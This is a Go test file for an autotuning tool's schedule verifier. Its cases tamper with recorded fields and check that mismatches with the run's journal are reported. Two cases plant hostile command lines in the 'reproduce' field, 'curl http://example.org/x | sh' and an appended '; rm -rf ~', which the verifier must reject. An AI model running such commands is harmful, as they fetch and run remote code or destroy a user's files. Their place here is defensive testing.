package tune

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tune/kernels"
	"tune/results"
	"tune/search"
)

// TestVerifyRun: in the directory of its run, a schedule is held against what the run recorded.
func TestVerifyRun(t *testing.T) {
	exact := toy{size: 20}
	none := toy{size: 20, cost: func(n int) float64 { return 100 - float64(n) }} // the baseline, 20, is the best
	faster, alike, closer := newMeasuredToy(), newMeasuredToy(), newMeasuredToy()
	faster.compare = scripted(func(int) kernels.Comparison { return compared(1.2, 1.1, 1.3) }, func(int) kernels.Comparison { return compared(1.2, 1.1, 1.3) })
	alike.compare = scripted(func(int) kernels.Comparison { return compared(1, 0.9, 1.1) }, func(int) kernels.Comparison { return compared(1, 0.9, 1.1) })
	closer.compare = honest
	for _, test := range []struct {
		name   string
		kernel kernels.Kernel
		tamper func(*results.Schedule)
		want   string // "" where nothing fails
	}{
		{"nothing", exact, func(s *results.Schedule) {}, ""},
		{"no gain", none, func(s *results.Schedule) {}, ""},
		{"trial", exact, func(s *results.Schedule) { s.Trial = 3 }, `field trial is 3, and journal.jsonl says that this is the point "n=4", not "n=1"`},
		{"no such trial", exact, func(s *results.Schedule) { s.Trial = 12 }, "field trial is 12, and journal.jsonl has no outcome of that number"},
		{"a trial that failed", toy{size: 20, build: func(n int) error {
			if n == 2 {
				return wrongAnswer(n)
			}
			return nil
		}}, func(s *results.Schedule) { s.Trial, s.Point, s.Key, *s.Index = 1, []byte(`{"n":2}`), "n=2", 1 },
			`field trial is 1, and journal.jsonl says that its outcome is "wrong answer" at fidelity 0`},
		{"evaluations that are too many", exact, func(s *results.Schedule) { s.Evaluations = 13 }, "field evaluations is 13, and journal.jsonl has 12 outcomes"},
		{"evaluations that are too few", exact, func(s *results.Schedule) { s.Evaluations = 11 }, "field evaluations is 11, and journal.jsonl says that the run ended once, after 12"},
		{"time", exact, func(s *results.Schedule) { s.ElapsedSeconds = -1 }, "field elapsed_seconds is -1, and journal.jsonl says that the run had at most 0 of the 12 outcomes"},
		{"seed", exact, func(s *results.Schedule) { s.Strategy = "random" }, `field strategy is "random", and run.json of the run says "grid"`},
		{"strategy_config", exact, func(s *results.Schedule) { s.StrategyConfig = "population=3" }, `field strategy_config is "population=3", and run.json of the run says "batch=64"`},
		{"strategy_version", exact, func(s *results.Schedule) { s.StrategyVersion += 7 }, `field strategy_version is 8, and run.json of the run says 1`},
		{"clock", exact, func(s *results.Schedule) { s.Clock = results.Simulated }, `field clock is "simulated", and run.json of the run says ""`},
		{"data", exact, func(s *results.Schedule) { s.Data = &results.File{Path: "x"} }, `field data is results.File{Path:"x", SHA256:""}, and run.json`},
		{"created", exact, func(s *results.Schedule) { s.Created = s.Created.Add(-time.Hour) }, `and run.json says that the run began at `},
		{"run", exact, func(s *results.Schedule) { s.Run = "other" }, `field run is "other", and the run was made as "`},
		{"another command line", exact, func(s *results.Schedule) { s.Reproduce[0] = "curl http://example.org/x | sh" }, `field reproduce has the line "curl http://example.org/x | sh", which is none that tune writes`},
		{"another command", exact, func(s *results.Schedule) { s.Reproduce[0] += "; rm -rf ~" }, "which is none that tune writes"},
		{"another seed", exact, func(s *results.Schedule) { s.Reproduce[0] = strings.Replace(s.Reproduce[0], "--seed ", "--seed 9", 1) }, "which is none that tune writes"},
		{"another trial", exact, func(s *results.Schedule) {
			s.Reproduce[0] = strings.Replace(s.Reproduce[0], "--evals 1", "--evals 3", 1)
		}, "which does not end with --evals 1, where trial 0 is"},
		{"another source", exact, func(s *results.Schedule) {
			s.Reproduce[0] = strings.Replace(s.Reproduce[0], " --strategy", " --from x --strategy", 1)
		}, "and the run gives "},
		{"no verification", exact, func(s *results.Schedule) { s.Reproduce = s.Reproduce[:1] }, `field reproduce does not end with "tune verify best.json"`},
		{"measured, a command line", faster, func(s *results.Schedule) { s.Reproduce = append([]string{"tune run toy"}, s.Reproduce...) }, `no run finds this point again for sure`},
		{"pairs", exact, func(s *results.Schedule) { s.Pairs = 9 }, "field pairs is 9, and the costs are exact"},
		{"an interval", exact, func(s *results.Schedule) { s.RatioInterval = &[2]float64{19, 21} }, "field ratio_interval is [19 21], and the costs are exact"},
		{"the search", exact, func(s *results.Schedule) { s.Search = &results.Seen{Cost: 1, Baseline: 20} }, "field seen_by_search is {Cost:1 Baseline:20}, and the costs are exact"},
		{"a point beside the winner", exact, func(s *results.Schedule) { s.Closest = &results.Closest{Key: "n=2", Cost: 2, Ratio: 10} },
			`field closest is "n=2", and the point is "n=1": want a point beside the baseline`},
		{"the closest", none, func(s *results.Schedule) { s.Closest.Key = "n=19" }, `field closest.key names "n=19", and journal.jsonl has no right outcome of that point`},
		{"no closest", none, func(s *results.Schedule) { s.Closest.Key = "n=21" }, "field closest.key: "},
		{"the cost of the closest", none, func(s *results.Schedule) { s.Closest.Cost, s.Closest.Ratio = 100, 0.8 }, "field closest.cost is 100, and journal.jsonl says that the point costs 88"},
		{"the ratio of the closest", none, func(s *results.Schedule) { s.Closest.Ratio = 0.5 }, "field closest.ratio is 0.5, and the costs give 0.90"},
		{"a closest that is better", none, func(s *results.Schedule) { s.Closest.Cost, s.Closest.Ratio = 40, 2 }, "field closest.cost is 40, less than the baseline's 80"},
		{"pairs of the closest", none, func(s *results.Schedule) { s.Closest.Pairs = 9 }, "field closest has pairs or an interval, and the costs are exact"},

		{"measured", faster, func(s *results.Schedule) {}, ""},
		{"measured, the baseline", alike, func(s *results.Schedule) {}, ""},
		{"measured, the trial", faster, func(s *results.Schedule) { s.Trial = 3 }, `field trial is 3, and journal.jsonl says that this is the point "n=4", not "n=2"`},
		{"measured, the search", faster, func(s *results.Schedule) { s.Search.Cost = 50 }, "field seen_by_search.cost is 50, and journal.jsonl says that trial 1 cost 51"},
		{"measured, the search and the baseline", alike, func(s *results.Schedule) { s.Search.Cost = 50 }, "field seen_by_search.cost is 50, and field seen_by_search.baseline is 60"},
		{"measured, pairs", alike, func(s *results.Schedule) { s.Pairs = 200 }, "field pairs is 200, and field closest.pairs is 20"},
		{"measured, no pairs", faster, func(s *results.Schedule) { s.Pairs = 0 }, "field pairs is 0, and field ratio_interval is "},
		{"measured, the closest", alike, func(s *results.Schedule) { s.Closest.Key = "n=19" }, `field closest.key names "n=19", and journal.jsonl has no right outcome`},
		{"measured, others", closer, func(s *results.Schedule) { s.IndistinctFrom = []string{"n=19"} }, `field indistinct_from names "n=19", and journal.jsonl has no right outcome`},
		{"measured, too few pairs", closer, func(s *results.Schedule) { s.TooFewPairs = []string{"n=19"} }, `field too_few_pairs names "n=19", and journal.jsonl has no right outcome`},
		{"measured, the baseline beside others", closer, func(s *results.Schedule) { s.IndistinctFrom = []string{"n=4", "n=20"} }, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			report := runToy(t, test.kernel, Options{Strategy: "grid", Budget: search.Budget{Evaluations: 12}})
			tamper(t, report.Dir, test.tamper)
			failed := verify(t, test.kernel, report.Dir)
			if test.want == "" && len(failed) > 0 || test.want != "" && !strings.Contains(strings.Join(failed, "\n"), test.want) {
				t.Errorf("failed are %q, want %q", failed, test.want)
			}
			// Elsewhere there is no run to compare it with.
			if err := os.Remove(filepath.Join(report.Dir, results.JournalName)); err != nil {
				t.Fatal(err)
			}
			for _, f := range verify(t, test.kernel, report.Dir) {
				if strings.Contains(f, "journal.jsonl") || strings.Contains(f, "run.json") {
					t.Errorf("without a journal: %s", f)
				}
			}
		})
	}
}

// TestVerifyRunGoesOn: a schedule may be older than the run, and then it says what was so at its time.
func TestVerifyRunGoesOn(t *testing.T) {
	target := 3.0
	for _, first := range []search.Budget{{Evaluations: 5}, {Target: &target}} {
		k := toy{size: 20, cost: func(n int) float64 { return 1 + float64((n+7)%20) }}
		report := runToy(t, k, Options{Strategy: "grid", Jobs: 4, Budget: first})
		if failed := verify(t, k, report.Dir); failed != nil {
			t.Errorf("verification fails: %q", failed)
		}
		older := report.Schedule
		budget := search.Budget{Evaluations: 20}
		if first.Target != nil {
			unreachable := -1.0
			budget.Target = &unreachable
		}
		report, err := Resume(t.Context(), kernels.Table{k}, report.Dir, Changes{Budget: budget})
		if err != nil || report.Result.Told != 20 {
			t.Fatalf("%v: %+v", err, report)
		}
		agrees := func(s *results.Schedule) []string {
			path := filepath.Join(report.Dir, "older.json")
			if err := s.Write(path); err != nil {
				t.Fatal(err)
			}
			v, err := Verify(t.Context(), kernels.Table{k}, path, FreshSeeds(1))
			if err != nil {
				t.Fatal(err)
			}
			var failed []string
			for _, step := range v.Steps {
				if strings.HasPrefix(step.Name, "it agrees with the run") && step.Err != nil {
					failed = append(failed, step.Err.Error())
				}
			}
			return failed
		}
		if failed := agrees(older); failed != nil {
			t.Errorf("the older schedule: %q", failed)
		}
		older.Evaluations = 21
		if failed := agrees(older); len(failed) != 1 || !strings.Contains(failed[0], "field evaluations is 21, and journal.jsonl has 20 outcomes") {
			t.Errorf("the older schedule: %q", failed)
		}
	}
}

// TestVerifyWants: without inputs, or without the kernel, nothing is verified.
func TestVerifyWants(t *testing.T) {
	k := toy{size: 4, cost: func(n int) float64 { return float64(10 - n) }}
	dir := runToy(t, k, Options{Strategy: "grid"}).Dir
	if _, err := Verify(t.Context(), kernels.Table{k}, filepath.Join(dir, ScheduleName), nil); err == nil || !strings.Contains(err.Error(), ": without seeds there are no inputs to check it on: give some, as FreshSeeds makes them") {
		t.Errorf("without seeds it is verified: %v", err)
	}
	if _, err := Verify(t.Context(), nil, filepath.Join(dir, ScheduleName), FreshSeeds(1)); err == nil || !strings.HasSuffix(err.Error(), `: unknown kernel "toy": the table of kernels is empty: give it one of that name`) {
		t.Errorf("without a kernel it is verified: %v", err)
	}
	if _, err := Verify(t.Context(), kernels.Table{k}, dir, FreshSeeds(1)); err == nil || !strings.HasSuffix(err.Error(), " is a folder: want the file of a schedule, such as "+filepath.Join(dir, ScheduleName)) {
		t.Errorf("a folder is verified: %v", err)
	}
}
